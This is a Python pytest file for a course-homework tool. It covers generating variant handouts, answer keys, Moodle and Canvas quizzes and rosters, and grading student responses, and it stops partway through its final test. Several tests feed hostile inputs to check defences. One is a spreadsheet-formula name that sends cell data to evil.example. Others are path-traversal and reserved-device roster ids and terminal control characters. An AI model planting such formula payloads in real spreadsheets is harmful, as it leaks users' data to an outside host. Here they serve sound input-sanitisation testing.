"""Building a class (orchestration/classroom.py): handouts, variants, the key and quizzes,
rosters, ranges, and grading the class (orchestration/gradebook.py).

The end-to-end tests run the real pdflatex, and must not skip.
"""

from __future__ import annotations

import csv
import io
import json
import re
import shutil
import subprocess
import sys
import zipfile
from pathlib import Path

import numpy as np
import pytest
from instances import HOMEWORK_CONFIG, ROOT, tree
from lxml import etree

import build
from orchestration import classroom
from orchestration.roster import shard_range
from report.answer_rule import printed
from report.question import part_of
from report.results import results_json
from report.tex import TexError
from solver.config import load_problem
from solver.network import solve

VARIANT_FILES = ("config.toml", "results.json", "solution.pdf")
CLASS_FILES = ("answer-key.csv", "answer-key.pdf", "canvas-qti.zip", "class.json", "handouts")
CLASS_FILES += ("moodle.xml", "variants")


def pdftext(pdf: Path, page: int | None = None) -> str:
    pages = ["-f", str(page), "-l", str(page)] if page else []
    return subprocess.run(
        ["pdftotext", *pages, str(pdf), "-"], capture_output=True, check=True
    ).stdout.decode()


def pages(pdf: Path) -> int:
    info = subprocess.run(["pdfinfo", str(pdf)], capture_output=True, text=True, check=True)
    return int(re.search(r"Pages:\s+(\d+)", info.stdout)[1])


@pytest.fixture(scope="module")
def three_variants(tmp_path_factory) -> Path:
    """``build.py --variants 3 --seed 1 --jobs 2`` into a fresh folder."""
    out = tmp_path_factory.mktemp("variants")
    argv = ["--variants", "3", "--seed", "1", "--jobs", "2", "--config", str(HOMEWORK_CONFIG)]
    assert build.main([*argv, "--out", str(out)]) == 0
    return out


@pytest.mark.tex
def test_build_writes_every_file(three_variants):
    """handouts/ holds the handouts and nothing else; each variants/NAME/ its three files;
    the class folder the key, the quizzes and the class's record."""
    names = sorted(p.name for p in three_variants.iterdir() if not p.name.startswith("."))
    assert names == sorted(CLASS_FILES)
    names = [f"variant-00{k}" for k in (1, 2, 3)]
    handouts = sorted(p.name for p in (three_variants / "handouts").iterdir())
    assert handouts == [f"{name}.pdf" for name in names]
    assert sorted(p.name for p in (three_variants / "variants").iterdir()) == names
    for name in names:
        folder = three_variants / "variants" / name
        assert sorted(p.name for p in folder.iterdir()) == sorted(VARIANT_FILES)
        assert (folder / "solution.pdf").read_bytes().startswith(b"%PDF")
    assert (three_variants / "answer-key.pdf").read_bytes().startswith(b"%PDF")


@pytest.mark.tex
def test_results_are_the_solution_of_the_written_config(three_variants):
    """results.json is exactly what a build of the variant's config.toml computes."""
    for folder in sorted((three_variants / "variants").iterdir()):
        problem = load_problem(folder / "config.toml")
        assert (folder / "results.json").read_text() == results_json(solve(problem))


@pytest.mark.tex
def test_answer_key_matches_each_variant(three_variants):
    """answer-key.csv: one row a variant, its loss and the updated entries its question asks
    equal results.json's; an entry it is not asked (its handout shows it) is empty."""
    with open(three_variants / "answer-key.csv", newline="") as f:
        rows = list(csv.DictReader(f))
    assert [row["variant"] for row in rows] == ["variant-001", "variant-002", "variant-003"]
    for row in rows:
        path = three_variants / "variants" / row["variant"] / "results.json"
        results = json.loads(path.read_text())
        asked = results["question"]["columns"]
        assert float(row["loss"]) == results["forward"]["loss"] and asked[0] == "loss"
        assert [c for c in row if row[c] and c != "variant"] == asked
        for name, values in results["updated"].items():
            for index in np.ndindex(np.shape(values)):
                column = "_".join([name, *(str(i + 1) for i in index)])
                if column in asked:
                    assert float(row[column]) == np.asarray(values)[index], column


@pytest.mark.tex
def test_the_quizzes_hold_every_variant_and_answer(three_variants):
    """moodle.xml: a category, then one cloze question a variant with a NUMERICAL field per
    key column; canvas-qti.zip: a manifest pointing at an assessment with an item each."""
    quiz = etree.fromstring((three_variants / "moodle.xml").read_bytes())
    questions = quiz.findall("question")
    assert [q.get("type") for q in questions] == ["category", "cloze", "cloze", "cloze"]
    named = json.loads((three_variants / "class.json").read_text())["class"][:8]
    category = f"$course$/Solutions to Homework 3 (class {named})"
    assert questions[0].findtext("category/text") == category
    key = {row["variant"]: row for row in _key_rows(three_variants)}
    for question in questions[1:]:
        name = question.findtext("name/text")
        fields = re.findall(
            r"\{1:NUMERICAL:=([^:]+):([^~}]+)~", question.findtext("questiontext/text")
        )
        expected = [float(v) for c, v in key[name].items() if v and c != "variant"]
        assert [value for value, _ in fields] == [printed(v, 4)[0] for v in expected]
        assert {tol for _, tol in fields} == {"5e-05"}  # half a unit of the 4th place
    with zipfile.ZipFile(three_variants / "canvas-qti.zip") as package:
        manifest = etree.fromstring(package.read("imsmanifest.xml"))
        hrefs = [e.get("href") for e in manifest.iter() if e.get("href")]
        assessment = etree.fromstring(
            package.read(next(h for h in hrefs if h in package.namelist()))
        )
        items = [e for e in assessment.iter() if etree.QName(e).localname == "item"]
        assert len(items) == 3


@pytest.mark.tex
def test_handouts_show_the_variant_and_a_box_per_answer(three_variants):
    """A handout: this instance's numbers, no solution, and an answer sheet with a box for
    every entry asked; every handout has as many pages, the answer sheet at the same page."""
    handouts = sorted((three_variants / "handouts").iterdir())
    assert len({pages(pdf) for pdf in handouts}) == 1
    handout = three_variants / "handouts" / "variant-002.pdf"
    problem = load_problem(three_variants / "variants" / "variant-002" / "config.toml")
    text = pdftext(handout)
    assert "Variant 002" in pdftext(handout, 1) and "Problem 2" in text
    assert "Name:" in pdftext(handout, 1) and "Student ID:" in pdftext(handout, 1)
    assert "one step" in text and "Backward pass" not in text
    x = ", ".join(f"{v:g}".replace("-", "−") for v in problem.x)
    assert f"x = [{x}]" in text
    answers = pdftext(handout, pages(handout))
    assert answers.lstrip().startswith("Answers") and answers.count("Loss") == 1
    assert "Solutions to Homework 3, variant 002" in pdftext(
        three_variants / "variants" / "variant-002" / "solution.pdf"
    )
    key = pdftext(three_variants / "answer-key.pdf")
    assert "Answer key" in key and "drawn with seed 1" in key
    assert all(f"variant-00{k}" in key for k in (1, 2, 3))


@pytest.mark.tex
def test_same_seed_builds_the_same_bytes(three_variants, tmp_path):
    """Built again, serially, into another folder: every file is byte-identical."""
    argv = ["--variants", "3", "--seed", "1", "--jobs", "1", "--config", str(HOMEWORK_CONFIG)]
    assert build.main([*argv, "--out", str(tmp_path)]) == 0
    built = tree(three_variants)
    assert len(built) == 1 + 5 + 3 + 3 * 3  # manifest, key and record, handouts, variants
    assert tree(tmp_path) == built


@pytest.mark.tex
def test_ranges_built_side_by_side_then_keyed_are_the_same_class(three_variants, tmp_path):
    """Variants 1-2 and 3 built at once by two processes into one folder (as --only 1-2 and
    --shard 2/2, the second of two near-equal ranges), then `key`: the same bytes as the
    class built in one run."""
    command = [sys.executable, "build.py", "--variants", "3", "--seed", "1", "--jobs", "1"]
    runs = [
        subprocess.Popen([*command, *part, "--out", str(tmp_path)], cwd=ROOT)
        for part in (["--only", "1-2"], ["--shard", "2/2"])
    ]
    assert [run.wait(timeout=600) for run in runs] == [0, 0]
    assert not (tmp_path / "answer-key.csv").exists()
    assert build.main(["key", str(tmp_path)]) == 0
    assert tree(tmp_path) == tree(three_variants)


@pytest.mark.tex
def test_key_names_the_missing_variants(tmp_path, capsys):
    argv = ["--variants", "3", "--seed", "1", "--jobs", "1", "--out", str(tmp_path)]
    assert build.main([*argv, "--only", "2-3"]) == 0
    assert build.main(["key", str(tmp_path)]) == 1
    assert (
        "error: 1 variant missing (not built, or of another class than " in capsys.readouterr().err
    )
    assert [row["variant"] for row in _key_rows(tmp_path)] == ["variant-002", "variant-003"]
    assert "Not built, so not in this key: variant-001" in pdftext(tmp_path / "answer-key.pdf")


@pytest.mark.tex
def test_a_range_into_another_class_is_refused(tmp_path, capsys):
    argv = ["--variants", "2", "--jobs", "1", "--out", str(tmp_path)]
    assert build.main([*argv, "--seed", "1", "--only", "1"]) == 0
    capsys.readouterr()
    assert build.main([*argv, "--seed", "2", "--only", "2"]) == 2
    err = capsys.readouterr().err
    assert err.count("\n") == 1 and "holds another class" in err


@pytest.mark.tex
def test_one_failing_variant_does_not_stop_the_others(tmp_path, monkeypatch, capsys):
    """TeX failing on variant 002's handout names it; 001 and 003 are built, the key holds
    them, and 002's folder holds TeX's log alone."""
    real = classroom.compile_pdf

    def failing_on_002(tex: str, **kwargs):
        if "Variant 002" in tex:  # the handout's heading
            raise TexError("TeX failed: solution.tex:1: simulated", "the log")
        return real(tex, **kwargs)

    monkeypatch.setattr(classroom, "compile_pdf", failing_on_002)
    argv = ["--variants", "3", "--seed", "1", "--jobs", "2", "--config", str(HOMEWORK_CONFIG)]
    assert build.main([*argv, "--out", str(tmp_path)]) == 1  # forked workers see the patch
    err = capsys.readouterr().err
    assert "error: variant-002: handout: TeX failed: solution.tex:1: simulated\n" in err
    assert err.endswith("error: 1 of 3 variants failed: variant-002\n")
    for k in (1, 3):
        folder = tmp_path / "variants" / f"variant-00{k}"
        assert sorted(p.name for p in folder.iterdir()) == sorted(VARIANT_FILES)
    failed = tmp_path / "variants" / "variant-002"
    assert sorted(p.name for p in failed.iterdir()) == ["config.toml", "results.json", "tex.log"]
    assert not (tmp_path / "handouts" / "variant-002.pdf").exists()
    assert [row["variant"] for row in _key_rows(tmp_path)] == ["variant-001", "variant-003"]
    assert "Not built, so not in this key: variant-002" in pdftext(tmp_path / "answer-key.pdf")


def test_a_crash_in_a_worker_is_one_failure(tmp_path, monkeypatch, capsys):
    """Even an unexpected exception fails only its own variant (here in-process, --jobs 1)."""

    def crash(*args, **kwargs):
        raise RuntimeError("boom")

    import solver.network

    monkeypatch.setattr(solver.network, "solve", crash)  # the variant's solve, not the draw's
    argv = ["--variants", "2", "--seed", "1", "--jobs", "1", "--config", str(HOMEWORK_CONFIG)]
    assert build.main([*argv, "--out", str(tmp_path)]) == 1
    err = capsys.readouterr().err
    assert "error: variant-001: unexpected RuntimeError: boom\n" in err
    assert "error: 2 of 2 variants failed: variant-001, variant-002" in err


# --- rosters --------------------------------------------------------------------------------

ROSTER = "id,name,email\ns1001,Ada Lovelace,ada@example.org\ns1002,张伟,wei@example.org\n"


@pytest.fixture(scope="module")
def roster_class(tmp_path_factory) -> Path:
    out = tmp_path_factory.mktemp("roster")
    (out.parent / "roster.csv").write_text(ROSTER)
    argv = ["variants", "--roster", str(out.parent / "roster.csv"), "--seed", "7"]
    assert build.main([*argv, "--jobs", "2", "--out", str(out)]) == 0
    return out


@pytest.mark.tex
def test_a_roster_names_each_variant_by_its_student(roster_class):
    handouts = sorted(p.name for p in (roster_class / "handouts").iterdir())
    assert handouts == ["s1001.pdf", "s1002.pdf"]
    assert "张伟 (s1002)" in pdftext(roster_class / "handouts" / "s1002.pdf", 1)
    assert "Name:" not in pdftext(roster_class / "handouts" / "s1002.pdf", 1)  # printed
    assert "Ada Lovelace (s1001)" in pdftext(
        roster_class / "variants" / "s1001" / "solution.pdf", 1
    )
    rows = _key_rows(roster_class)
    assert [(r["variant"], r["id"], r["name"]) for r in rows] == [
        ("s1001", "s1001", "Ada Lovelace"),
        ("s1002", "s1002", "张伟"),
    ]
    assert list(rows[0])[:4] == ["variant", "id", "name", "loss"]


@pytest.mark.tex
def test_a_student_added_later_changes_nobody_elses_numbers(roster_class, tmp_path):
    roster = tmp_path / "roster.csv"
    roster.write_text(ROSTER.replace("s1001,", "s0999,Late Comer,l@x\ns1001,"))
    argv = ["variants", "--roster", str(roster), "--seed", "7", "--jobs", "1"]
    assert build.main([*argv, "--out", str(tmp_path / "c")]) == 0
    for student in ("s1001", "s1002"):
        path = Path("variants") / student / "results.json"
        assert (tmp_path / "c" / path).read_bytes() == (roster_class / path).read_bytes()


@pytest.mark.parametrize(
    ("text", "message"),
    [
        ("id,name\n../x,Eve\n", "row 2: id '../x' cannot name a file"),
        ("id,name\ns1,A\ns1,B\n", "row 3: id s1 repeats row 2"),
        ("name\nA\n", "expected a header row with the column id"),
        ("id,name\ns1,😀\n", "row 2: name '😀': the character U+1F600 cannot be printed"),
        ("id,name\n", "no student in the roster"),
        ("id,name\nA1,Ann\na1,Bob\n", "row 3: id a1 repeats row 2 (ids are told apart regardless"),
        ("id,name\nCON,Ann\n", "id 'CON' cannot name a file"),
        ("id,name\nann.,Ann\n", "id 'ann.' cannot name a file"),
        ("id,name\na1," + "x" * 140_000 + "\n", "not CSV: field larger than field limit"),
    ],
)
def test_a_bad_roster_is_one_line(tmp_path, capsys, text, message):
    roster = tmp_path / "roster.csv"
    roster.write_text(text)
    argv = ["variants", "--roster", str(roster), "--seed", "1", "--out", str(tmp_path / "o")]
    assert build.main(argv) == 2
    err = capsys.readouterr().err
    assert err.count("\n") == 1 and message in err, err
    assert not (tmp_path / "o").exists()


# --- grading a class ------------------------------------------------------------------------


@pytest.mark.tex
def test_grading_a_class(roster_class, tmp_path, capsys):
    """Each response against its own variant: all right; rounded, wrong and blank entries;
    an unknown id and a repeated row (reported, left out)."""
    key = _key_rows(roster_class)
    columns = [c for c in key[0] if c not in ("variant", "id", "name")]
    right = {c: key[0][c] for c in columns}
    asked = [c for c in columns if key[1][c]]  # s1002's entries (not those its handout shows)
    # s1002: 3 rounded to 4 decimals (ok), 2 wrong by 0.01, the others left blank
    half = {c: "" for c in columns}
    for c in asked[:3]:
        half[c] = f"{float(key[1][c]):.4f}"
    for c in asked[3:5]:
        half[c] = repr(float(key[1][c]) + 0.01)
    responses = tmp_path / "responses.csv"
    with open(responses, "w", newline="") as f:
        writer = csv.DictWriter(f, ["id", *columns])
        writer.writeheader()
        writer.writerow({"id": "s1001", **right})
        writer.writerow({"id": "s1002", **half})
        writer.writerow({"id": "nobody", **right})
        writer.writerow({"id": "s1001", **half})
    grades = tmp_path / "grades.csv"
    argv = ["grade", "--class", str(roster_class), "--responses", str(responses)]
    assert build.main([*argv, "--out", str(grades)]) == 0
    out, err = capsys.readouterr()
    assert f"and its class report {tmp_path / 'grades.pdf'}" in out
    report = pdftext(tmp_path / "grades.pdf")
    assert pages(tmp_path / "grades.pdf") == 1 and "2 of 2 students" in report
    assert f"Median score {100 * (1 + 3 / len(asked)) / 2:.0f} %" in report
    assert "row 4: no member of the class has id 'nobody'" in err
    assert "1 member answered more than once: graded each one's best attempt" in err
    rows = list(csv.DictReader(io.StringIO(grades.read_text())))
    assert [(r["id"], r["name"], r["variant"]) for r in rows] == [
        ("s1001", "Ada Lovelace", "s1001"),
        ("s1002", "张伟", "s1002"),
    ]
    first = [c for c in columns if key[0][c]]
    w1 = sum(part_of(c) == "W1" for c in first)
    assert rows[0]["score"] == "1.0000" and rows[0]["W1_ok"] == f"{w1} of {w1}"
    assert rows[1]["score"] == f"{3 / len(asked):.4f}" and rows[1]["loss_ok"] == "1 of 1"
    for part in dict.fromkeys(part_of(c) for c in asked):
        ok = sum(part_of(c) == part for c in asked[:3])
        assert rows[1][f"{part}_ok"] == f"{ok} of {sum(part_of(c) == part for c in asked)}"


@pytest.mark.tex
def test_grades_are_written_when_the_class_report_cannot_be(
    roster_class, tmp_path, capsys, monkeypatch
):
    """The report is typeset after grading: when TeX fails, grades.csv is still written,
    and a warning says the report was not, and why."""
    from orchestration import gradebook

    def fail(graded):
        raise TexError("TeX failed: no pgfplots")

    monkeypatch.setattr(gradebook, "class_report_pdf", fail)
    responses = _responses(tmp_path, "id,loss\ns1001,1\n")
    grades = tmp_path / "grades.csv"
    argv = ["grade", "--class", str(roster_class), "--responses", str(responses)]
    assert build.main([*argv, "--out", str(grades)]) == 0
    out, err = capsys.readouterr()
    assert "warning: the class report was not written: TeX failed: no pgfplots\n" in err
    assert out == f"wrote {grades} (2 students)\n"
    assert grades.read_text().startswith("id,name,variant,score")
    assert not (tmp_path / "grades.pdf").exists()
    # an earlier grading's report is left as it was, and said to be so, not taken for this one's
    (tmp_path / "grades.pdf").write_bytes(b"earlier")
    assert build.main([*argv, "--out", str(grades)]) == 0
    err = capsys.readouterr().err
    assert f"no pgfplots ({tmp_path / 'grades.pdf'} is an earlier grading's)\n" in err
    assert (tmp_path / "grades.pdf").read_bytes() == b"earlier"


@pytest.mark.tex
@pytest.mark.parametrize(("attempt", "score"), [("first", 0), ("last", -1), ("best", 1)])
def test_what_students_type_is_read(roster_class, tmp_path, capsys, attempt, score):
    """Three attempts of s1001 (blank; every entry right, typed with a decimal comma or the
    PDF's minus sign; all right but one entry that is no number): --attempt picks one, and
    the entry that cannot be read is named on stderr, never silently wrong (a comma or a
    U+2212 scored 0 with no word)."""
    key = _key_rows(roster_class)
    columns = [c for c in key[0] if key[0][c] and c not in ("variant", "id", "name")]
    typed = {c: f"{float(key[0][c]):.6f}".replace(".", ",").replace("-", "\u2212") for c in columns}
    slip = {**typed, columns[3]: "1.2.3"}
    score = f"{(len(columns) - 1) / len(columns):.4f}" if score == -1 else f"{score:.4f}"
    responses = tmp_path / "responses.csv"
    with open(responses, "w", newline="", encoding="utf-8") as f:
        writer = csv.DictWriter(f, ["id", *columns])
        writer.writeheader()
        for row in ({}, typed, slip):
            writer.writerow({"id": "s1001", **row})
    grades = tmp_path / "grades.csv"
    argv = ["grade", "--class", str(roster_class), "--responses", str(responses)]
    assert build.main([*argv, "--attempt", attempt, "--out", str(grades)]) == 0
    err = capsys.readouterr().err
    assert f"graded each one's {attempt} attempt" in err
    (row,) = [r for r in csv.DictReader(io.StringIO(grades.read_text())) if r["id"] == "s1001"]
    assert row["score"] == score
    if attempt == "last":
        assert f"row 4 (s1001), {columns[3]}: '1.2.3' is not a number: marked wrong" in err


@pytest.mark.tex
@pytest.mark.parametrize(
    ("text", "message"),
    [
        ("student,loss\ns1001,1\n", "expected a header with an id or variant column"),
        ("id,colour\ns1001,blue\n", "no answer column"),
    ],
)
def test_malformed_responses_are_one_line(roster_class, tmp_path, capsys, text, message):
    responses = tmp_path / "responses.csv"
    responses.write_text(text)
    grades = tmp_path / "grades.csv"
    grades.write_text("kept")
    argv = ["grade", "--class", str(roster_class), "--responses", str(responses)]
    assert build.main([*argv, "--out", str(grades)]) == 2
    err = capsys.readouterr().err
    assert err.count("\n") == 1 and message in err, err
    assert grades.read_text() == "kept"


@pytest.mark.parametrize(
    "argv",
    [
        ["--variants", "3", "--seed", "1"],  # no --out
        ["--variants", "3", "--out", "x"],  # no --seed
        ["--variants", "0", "--seed", "1", "--out", "x"],
        ["--variants", "100001", "--seed", "1", "--out", "x"],
        ["--variants", "2", "--seed", "1", "--out", "x", "--only", "2-1"],
        ["--variants", "2", "--roster", "r.csv", "--seed", "1", "--out", "x"],
        ["--variants", "2", "--seed", "1", "--out", "x", "--jobs", "0"],
        ["--seed", "1"],  # --seed without --variants
        ["--variants", "2", "--seed", "1", "--out", "x", "--no-pdf"],
    ],
)
def test_bad_variant_options_exit_2(argv, capsys):
    with pytest.raises(SystemExit) as exit_info:
        build.main(argv)
    assert exit_info.value.code == 2
    assert "error:" in capsys.readouterr().err


def test_bad_config_exits_2_and_writes_nothing(tmp_path, capsys):
    """A config that does not load stops before any variant: one line, exit 2."""
    config = tmp_path / "bad.toml"
    config.write_text("[network]\n")
    out = tmp_path / "out"
    argv = ["--variants", "2", "--seed", "1", "--config", str(config), "--out", str(out)]
    assert build.main(argv) == 2
    assert capsys.readouterr().err.startswith(f"error: {config}: ")
    assert not out.exists()


@pytest.mark.tex
def test_sympy_is_imported_once_for_a_class(tmp_path):
    """SymPy is imported once, in the parent before the variant workers fork: they reuse it.

    ``python -X importtime`` writes a line for every module a process imports, so a worker
    that imported SymPy again would add a line of its own.
    """
    command = [sys.executable, "-X", "importtime", "build.py", "--variants", "3", "--seed", "1"]
    command += ["--jobs", "2", "--out", str(tmp_path / "class")]
    run = subprocess.run(command, cwd=ROOT, capture_output=True, text=True)
    assert run.returncode == 0, run.stderr[-2000:]
    imports = [line for line in run.stderr.splitlines() if re.search(r"\|\s+sympy$", line)]
    assert len(imports) == 1
    assert len(list((tmp_path / "class" / "variants").glob("variant-*/solution.pdf"))) == 3


def _key_rows(folder: Path) -> list[dict]:
    with open(folder / "answer-key.csv") as f:
        return list(csv.DictReader(f))


def _class_is_coherent(folder: Path) -> bool:
    """The key's rows are exactly the variant folders, each row that folder's numbers."""
    rows = _key_rows(folder)
    names = sorted(p.name for p in (folder / "variants").iterdir())
    handouts = sorted(p.name for p in (folder / "handouts").iterdir())
    if [row["variant"] for row in rows] != names or handouts != [f"{n}.pdf" for n in names]:
        return False
    for row in rows:
        results = json.loads((folder / "variants" / row["variant"] / "results.json").read_text())
        if float(row["loss"]) != results["forward"]["loss"]:
            return False
    return True


@pytest.mark.tex
def test_a_smaller_class_leaves_no_variant_of_the_bigger_one(tmp_path):
    argv = ["--jobs", "1", "--config", str(HOMEWORK_CONFIG), "--out", str(tmp_path)]
    assert build.main(["--variants", "3", "--seed", "1", *argv]) == 0
    assert build.main(["--variants", "2", "--seed", "2", *argv]) == 0
    names = sorted(p.name for p in (tmp_path / "variants").iterdir())
    assert names == ["variant-001", "variant-002"]
    assert _class_is_coherent(tmp_path)


@pytest.mark.tex
def test_two_classes_at_once_into_one_folder(tmp_path):
    """Seeds 1 and 2 at once: they take turns; the folder is one run's class, key and all."""
    runs = [
        subprocess.Popen(
            [sys.executable, "build.py", "--variants", "2", "--seed", seed, "--jobs", "1"]
            + ["--out", str(tmp_path)],
            cwd=ROOT,
            stderr=subprocess.PIPE,
            text=True,
        )
        for seed in ("1", "2")
    ]
    errors = [run.communicate()[1] for run in runs]
    assert [run.returncode for run in runs] == [0, 0], errors
    assert "waiting for another build" in "".join(errors)
    assert _class_is_coherent(tmp_path)


# --- what a careless hand does to a class ----------------------------------------------------


def _responses(tmp_path: Path, text: str) -> Path:
    path = tmp_path / "responses.csv"
    path.write_text(text)
    return path


@pytest.mark.tex
@pytest.mark.parametrize(
    ("target", "message"),
    [
        ("folder", "folder is a folder or a device, not a file"),
        ("responses", "responses.csv is the responses file"),
        ("class.json", "class.json is one of the class's own files"),
        ("answer-key.csv", "answer-key.csv is one of the class's own files"),
        # the class report goes beside grades.csv, as grades.pdf: checked as well
        ("report on a folder", "report.pdf is a folder or a device, not a file"),
        ("report on the responses", "responses.pdf is the responses file"),
        ("a pdf", "the class report is written beside grades.csv as a .pdf"),
    ],
)
def test_grades_never_overwrite_what_is_not_a_grades_file(
    roster_class, tmp_path, capsys, target, message
):
    responses = _responses(tmp_path, "id,loss\ns1001,1\n")
    if target == "report on the responses":
        responses = responses.rename(tmp_path / "responses.pdf")
    (tmp_path / "folder").mkdir()
    (tmp_path / "report.pdf").mkdir()
    path = {
        "folder": tmp_path / "folder",
        "responses": responses,
        "class.json": roster_class / "class.json",
        "answer-key.csv": roster_class / "answer-key.csv",
        "report on a folder": tmp_path / "report.csv",
        "report on the responses": tmp_path / "responses.csv",
        "a pdf": tmp_path / "grades.pdf",
    }[target]
    before = tree(roster_class)
    argv = ["grade", "--class", str(roster_class), "--responses", str(responses)]
    assert build.main([*argv, "--out", str(path)]) == 2
    err = capsys.readouterr().err
    assert err.count("\n") == 1 and message in err, err
    assert tree(roster_class) == before and responses.read_text() == "id,loss\ns1001,1\n"
    assert not (tmp_path / "grades.pdf").exists() and not (tmp_path / "report.csv").exists()


@pytest.mark.tex
@pytest.mark.parametrize(
    ("text", "message"),
    [
        ("id,loss,loss\ns1001,1,2\n", "the column loss repeats"),
        ("id,loss\nnobody,1\n", "no response names a member of the class by its id"),
        ("id\n", "no response names a member of the class"),
        # 32 MiB of rows for a class of 2 cost 99 s and 2.46 GB: rows are bounded by its size
        ("id,loss\n" + "s1001,1\n" * 141, "more than 140 rows for a class of 2 members"),
    ],
)
def test_responses_that_grade_nobody_are_refused(roster_class, tmp_path, capsys, text, message):
    grades = tmp_path / "grades.csv"
    grades.write_text("kept")
    argv = ["grade", "--class", str(roster_class), "--responses", str(_responses(tmp_path, text))]
    assert build.main([*argv, "--out", str(grades)]) == 2
    assert message in capsys.readouterr().err and grades.read_text() == "kept"


@pytest.mark.tex
def test_only_decimals_count(roster_class, tmp_path):
    """The plain number and its decimal-comma form are ok; an underscore, nan: wrong, like
    a blank."""
    loss = _key_rows(roster_class)[0]["loss"]
    grades = tmp_path / "grades.csv"
    cases = [(loss, "1 of 1"), (loss.replace(".", ","), "1 of 1"), ("nan", "0 of 1")]
    for given, ok in [*cases, ("1_0", "0 of 1")]:
        path = _responses(tmp_path, f'id,loss\ns1001,"{given}"\n')
        argv = ["grade", "--class", str(roster_class), "--responses", str(path)]
        assert build.main([*argv, "--out", str(grades)]) == 0
        assert list(csv.DictReader(io.StringIO(grades.read_text())))[0]["loss_ok"] == ok, given


def test_a_class_never_takes_folders_of_the_users_own(tmp_path, capsys):
    mine = tmp_path / "variants" / "mine"
    mine.mkdir(parents=True)
    (mine / "data.txt").write_text("precious")
    argv = ["--variants", "2", "--seed", "1", "--jobs", "1", "--out", str(tmp_path)]
    assert build.main(argv) == 2
    assert "holds files that are not a class's" in capsys.readouterr().err
    assert (mine / "data.txt").read_text() == "precious"


@pytest.mark.tex
def test_key_takes_no_variant_of_another_class_or_edited_since(three_variants, tmp_path, capsys):
    """A variant left by another class (an interrupted run), and one whose results.json
    was edited, are named as missing; the others are keyed."""
    shutil.copytree(three_variants, tmp_path / "c")
    other = tmp_path / "other"
    argv = ["--variants", "3", "--seed", "5", "--jobs", "1", "--only", "1"]
    assert build.main([*argv, "--out", str(other)]) == 0
    shutil.rmtree(tmp_path / "c" / "variants" / "variant-001")
    shutil.copytree(other / "variants" / "variant-001", tmp_path / "c" / "variants" / "variant-001")
    edited = tmp_path / "c" / "variants" / "variant-002" / "results.json"
    edited.write_text("{}")
    capsys.readouterr()
    assert build.main(["key", str(tmp_path / "c")]) == 1
    assert "class.json): variant-001, variant-002: build them" in capsys.readouterr().err
    assert [row["variant"] for row in _key_rows(tmp_path / "c")] == ["variant-003"]


@pytest.mark.parametrize("only", ["2-", "+1-2", " 1-2", "٢-٣", "0-1"])
def test_a_range_is_plain_digits(only, capsys):
    argv = ["--variants", "3", "--seed", "1", "--out", "never", "--only", only]
    with pytest.raises(SystemExit) as exit_info:
        build.main(argv)
    assert exit_info.value.code == 2 and "expected A-B" in capsys.readouterr().err


@pytest.mark.parametrize("size", [1, 2, 3, 7, 10, 99, 100, 101])
@pytest.mark.parametrize("shards", [1, 2, 3, 7, 100])
def test_shards_split_a_class_into_near_equal_ranges(size, shards):
    """The K-th of N ranges, K = 1..N: every member in exactly one, in order, their lengths
    differing by at most one (empty ranges only when N exceeds the class)."""
    ranges = [shard_range(k, shards, size) for k in range(1, shards + 1)]
    built = [m for r in ranges if r for m in range(r[0], r[1] + 1)]
    assert built == list(range(1, size + 1))
    lengths = [r[1] - r[0] + 1 if r else 0 for r in ranges]
    assert max(lengths) - min(lengths) <= 1
    assert (0 in lengths) == (shards > size)


@pytest.mark.parametrize(
    ("part", "message"),
    [
        (["--shard", "0/3"], "expected K/N with 1 <= K <= N"),
        (["--shard", "4/3"], "expected K/N with 1 <= K <= N"),
        (["--shard", "1-3"], "expected K/N with 1 <= K <= N"),
        (["--shard", "1/2", "--only", "1"], "not allowed with argument --shard"),
    ],
)
def test_a_shard_is_k_of_n(part, message, capsys):
    argv = ["--variants", "3", "--seed", "1", "--out", "never", *part]
    with pytest.raises(SystemExit) as exit_info:
        build.main(argv)
    assert exit_info.value.code == 2 and message in capsys.readouterr().err


def test_a_shard_past_the_class_builds_nothing(tmp_path, capsys):
    """An array job of more tasks than the class has members: the extra tasks succeed."""
    argv = ["--variants", "2", "--seed", "1", "--out", str(tmp_path / "o"), "--shard", "3/3"]
    assert build.main(argv) == 0
    assert "--shard 3/3: nothing to build (the class has 2 members)" in capsys.readouterr().out
    assert not (tmp_path / "o").exists()


def test_a_range_past_the_class_is_refused(tmp_path, capsys):
    argv = ["--variants", "3", "--seed", "1", "--out", str(tmp_path / "o"), "--only", "3-9"]
    assert build.main(argv) == 2
    assert "--only 3-9: the class has 3 members" in capsys.readouterr().err


@pytest.mark.tex
def test_ids_match_whatever_their_case(roster_class, tmp_path, capsys):
    """A roster refuses ids that differ only in case, so S1001 is s1001 (it was unmatched)."""
    key = _key_rows(roster_class)
    responses = tmp_path / "responses.csv"
    responses.write_text(f"id,loss\nS1001,{key[0]['loss']}\n")
    grades = tmp_path / "grades.csv"
    argv = ["grade", "--class", str(roster_class), "--responses", str(responses)]
    assert build.main([*argv, "--out", str(grades)]) == 0
    assert "no member" not in capsys.readouterr().err
    rows = list(csv.DictReader(io.StringIO(grades.read_text())))
    assert rows[0]["id"] == "s1001" and rows[0]["loss_ok"] == "1 of 1"


@pytest.mark.tex
def test_names_that_are_formulas_reach_the_csvs_as_text(tmp_path):
    """Roster names a spreadsheet would run (OWASP's CSV injection) are written beginning
    with a quote in answer-key.csv and grades.csv; the PDFs print them as typed."""
    names = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "-2+3"]
    roster = tmp_path / "roster.csv"
    with open(roster, "w", newline="") as f:
        writer = csv.writer(f)
        writer.writerow(["id", "name"])
        writer.writerows([["s1", names[0]], ["s2", names[1]]])  # ids name files: never formulas
    out = tmp_path / "class"
    argv = ["variants", "--roster", str(roster), "--seed", "3", "--jobs", "1", "--out", str(out)]
    assert build.main(argv) == 0
    key = list(csv.DictReader(io.StringIO((out / "answer-key.csv").read_text())))
    cells = [(r["id"], r["name"]) for r in key]
    assert cells == [("s1", "'" + names[0]), ("s2", "'" + names[1])]
    responses = tmp_path / "responses.csv"
    responses.write_text(f"id,loss\ns1,{key[0]['loss']}\ns2,0\n")
    grades = tmp_path / "grades.csv"
    args = ["grade", "--class", str(out), "--responses", str(responses), "--out", str(grades)]
    assert build.main(args) == 0
    rows = list(csv.DictReader(io.StringIO(grades.read_text())))
    assert [(r["id"], r["name"]) for r in rows] == cells
    assert names[1] in pdftext(out / "handouts" / "s2.pdf", 1)  # as typed: no quote


@pytest.mark.tex
@pytest.mark.parametrize("title", ["Homework\x073", "Homework\x1b[31m3", 42])
def test_a_class_json_edited_to_hold_a_control_character_is_one_line(
    three_variants, tmp_path, capsys, title
):
